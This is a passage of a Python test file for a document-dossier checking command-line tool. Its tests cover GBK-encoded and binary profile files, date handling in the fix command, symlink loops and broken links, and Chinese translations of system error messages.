    out = tmp_path / "out"
    result = cli("batch", root, "--reports", out, "--format", "json", *CHEAP[-4:])
    assert {p.name for p in out.iterdir()} == {"a.json", "a.html", "a.zip.json", "a.zip.html"}
    rows = {r["folder"]: r for r in json.loads(result.stdout)}
    assert rows["a"]["same_id"] == ["a.zip"] and rows["a.zip"]["same_id"] == ["a"]


def test_24_a_profile_saved_as_gbk_is_read_and_a_binary_one_is_named(tmp_path):
    """Notepad's 'ANSI' on a Chinese Windows is GBK: the applicant's text all the same. A Word file saved under the
    profile's name is not text at all: one line that says so, never 'line ?'."""
    d = demo(tmp_path)
    (d / "applicant.yaml").write_bytes(profile_text().encode("gbk"))
    assert cli("check", d, *CHEAP).exit_code == 1  # checked (the files are empty): the profile was read
    (d / "applicant.yaml").write_bytes(b"PK\x03\x04\x14\x00\x00\x00word/document.xml")
    result = cli("check", d, *CHEAP)
    assert result.exit_code == 2 and "不是文本文件" in result.stderr and "applicant.yaml" in result.stderr
    assert "?" not in result.stderr


def test_fix_checks_its_copy_as_of_the_day_given(tmp_path):
    """fix takes --today as check does: its copy is judged as of that day (after the window closed, a warning
    more), and a bad date is refused before anything is written."""
    d = demo(tmp_path)

    def after(day: str) -> dict:
        out = tmp_path / f"fixed-{day}"
        cli("fix", d, "--out", out, "--today", day, "-j", "1")
        return json.loads((out / "fix-report.json").read_text(encoding="utf-8"))["after"]

    assert after("2026-12-05")["warning"] > after("2023-09-10")["warning"]
    refused(cli("fix", d, "--out", tmp_path / "never", "--today", "2023-9-x"), "2023-9-x")
    assert not (tmp_path / "never").exists()


def test_fix_leaves_out_a_file_it_cannot_read_and_copies_the_rest(tmp_path):
    """check says I107 of a link that loops (or a file without read permission) and goes on; fix too: the rest of
    the copy is written, the change log names the file and why, and no error blames the output folder."""
    d = demo(tmp_path)
    os.symlink("loop2", d / "loop1")
    os.symlink("loop1", d / "loop2")
    os.symlink("/nonexistent/scan.jpg", d / "18-个人工作总结" / "link.jpg")  # a link to nothing: not just gone
    out = tmp_path / "fixed"
    result = cli("fix", d, "--out", out, "-j", "1")
    assert result.exit_code in (0, 1), result.output
    assert "loop1" in result.stdout and "没有复制到副本" in result.stdout and "无法写入" not in result.stderr
    assert (out / "applicant.yaml").is_file() and any((out / "01-身份证").iterdir())
    report = json.loads((out / "fix-report.json").read_text(encoding="utf-8"))
    assert any(a["do"] == "not_copied" for c in report["changes"] if c["file"] == "loop1" for a in c["actions"])
    assert "link.jpg" in result.stdout and not (out / "18-个人工作总结" / "link.jpg").exists()


def test_a_system_error_is_said_in_the_reports_language():
    """strerror is English whatever the user reads: the common ones are said in Chinese (and in plain English), an
    unknown one as the system says it; a vanished file is no longer 'vanished' in a Chinese report."""
    from dossiercheck.checks.integrity import DETAILS
    from dossiercheck.i18n import os_words

    assert os_words("Permission denied").get("zh") == "没有权限读写"
    assert "loop" in os_words("Too many levels of symbolic links").get("en")
    assert os_words("Weird new error") == "Weird new error"
    assert "vanished" not in DETAILS["vanished"].get("zh") and "/" not in DETAILS["vanished"].get("en")
